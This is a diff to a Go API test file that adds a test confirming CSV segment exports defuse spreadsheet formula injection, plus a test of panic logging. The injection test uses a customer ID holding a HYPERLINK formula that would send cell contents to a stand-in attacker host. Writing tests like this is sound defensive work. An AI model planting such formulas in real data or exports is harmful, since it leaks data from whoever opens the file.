@@ -1,19 +1,25 @@
 package api_test
 
 import (
+	"bytes"
 	"context"
 	"crypto/sha256"
 	"encoding/csv"
 	"encoding/hex"
 	"fmt"
+	"log/slog"
 	"net/http/httptest"
+	"net/url"
 	"strings"
 	"testing"
 	"time"
 
+	"github.com/gin-gonic/gin"
 	"github.com/stretchr/testify/require"
 
+	"github.com/lift-hq/lift/api"
 	"github.com/lift-hq/lift/internal/domain"
+	"github.com/lift-hq/lift/internal/testdb"
 	"github.com/lift-hq/lift/models"
 )
 
@@ -245,4 +251,45 @@ func TestOpenedNotConvertedSegmentExport(t *testing.T) {
 		st, body = b.do(t, "GET", "/v1/campaigns/nope/segments/opened-not-converted", "")
 		requireError(t, st, body, 404, "not_found", "")
 	})
+}
+
+// TestExportsAreSafeToOpenInASpreadsheet: a customer ID a spreadsheet
+// would run as a formula is written as text.
+func TestExportsAreSafeToOpenInASpreadsheet(t *testing.T) {
+	t.Parallel()
+	eachStore(t, func(t *testing.T, b *bundle) {
+		b.seed(t)
+		evil := `=HYPERLINK("evil.example?"&A1;"Open")`
+		st, body := b.do(t, "PUT", "/v1/customers/"+url.PathEscape(evil), `{"email":"evil@example.com","marketing_consent":true}`)
+		require.Equal(t, 200, st, "%v", body)
+		t0 := time.Date(2026, 5, 1, 10, 0, 0, 0, time.UTC)
+		db := b.store.DB()
+		require.NoError(t, db.Create(&models.Enrollment{ID: "e-evil", CustomerID: evil, CampaignID: "camera-accessories", Version: 1,
+			WorkflowID: "w-evil", Variant: "A", Status: domain.StatusCompleted, EnrolledAt: t0}).Error)
+		require.NoError(t, db.Create(&models.Message{ID: "m-evil", IdempotencyKey: "e-evil/guide", EnrollmentID: "e-evil", StepID: "guide",
+			CustomerID: evil, CampaignID: "camera-accessories", Variant: "A", Status: domain.MessageSent, SentAt: &t0, OpenedAt: &t0}).Error)
+		req := httptest.NewRequest("GET", "/v1/campaigns/camera-accessories/segments/opened-not-converted?from=2026-04-01T00:00:00Z", nil)
+		req.Header.Set("Authorization", "Bearer "+key)
+		rec := httptest.NewRecorder()
+		b.h.ServeHTTP(rec, req)
+		require.Equal(t, 200, rec.Code, rec.Body.String())
+		rows, err := csv.NewReader(rec.Body).ReadAll()
+		require.NoError(t, err)
+		require.Len(t, rows, 2)
+		require.Equal(t, "'"+evil, rows[1][0], "the formula is text")
+	})
+}
+
+// TestAPanicIsLoggedWithItsValueAndStack: the client gets a plain 500,
+// the log gets what is needed to find the bug.
+func TestAPanicIsLoggedWithItsValueAndStack(t *testing.T) {
+	t.Parallel()
+	var log bytes.Buffer
+	b := on(t, testdb.SQLite(t), func(d *api.Deps) { d.Logger = slog.New(slog.NewTextHandler(&log, nil)) })
+	b.h.GET("/boom", func(*gin.Context) { panic("the bug") })
+	st, body := b.do(t, "GET", "/boom", "")
+	requireError(t, st, body, 500, "internal", "")
+	require.Equal(t, "internal error", body["error"].(map[string]any)["message"])
+	require.Contains(t, log.String(), "the bug")
+	require.Contains(t, log.String(), "api_test.TestAPanicIsLoggedWithItsValueAndStack", "the stack names the handler")
 }
